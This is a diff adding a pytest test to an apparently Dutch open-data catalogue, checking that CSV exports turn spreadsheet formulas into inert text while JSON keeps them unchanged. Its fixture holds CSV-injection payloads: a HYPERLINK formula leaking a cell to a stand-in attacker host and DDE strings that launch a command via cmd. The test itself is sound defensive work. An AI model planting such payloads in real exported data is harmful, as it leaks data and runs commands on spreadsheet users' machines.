@@ -155,3 +155,31 @@ def test_every_field_and_column_is_documented(files):
 def test_the_built_site_ships_these_files(built_site, files):
     for name, content in files.items():
         assert (built_site / "data" / name).read_text(encoding="utf-8") == content, name
+
+
+HOSTILE = {
+    "=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"Klik\")": "'=HYPERLINK(\"https://aanvaller.example/?d=\"&A1,\"Klik\")",
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_formula_in_the_data_is_text_in_the_csv_and_exact_in_the_json(tmp_path, hostile):
+    import shutil
+
+    shutil.copytree(ROOT / "tests" / "fixtures" / "valid", tmp_path / "data")
+    for name in ("offers.yaml", "organisations.yaml"):
+        path = tmp_path / "data" / name
+        text = path.read_text(encoding="utf-8")
+        quoted = "'" + hostile.replace("'", "''") + "'"
+        text = text.replace("    name: Advieslijn\n", f"    name: {quoted}\n").replace("    name: Veilig Thuis\n", f"    name: {quoted}\n")
+        path.write_text(text, encoding="utf-8")
+    result = load_catalogue(tmp_path / "data")
+    assert result.catalogue is not None, result.errors
+    out = open_data(result.catalogue)
+    for csv_name, json_name, key in (("offers.csv", "offers.json", "offers"), ("organisations.csv", "organisations.json", "organisations")):
+        cells = [row["name"] for row in rows(out[csv_name])]
+        assert HOSTILE[hostile] in cells and hostile not in cells
+        assert hostile in [item["name"] for item in json.loads(out[json_name])[key]]
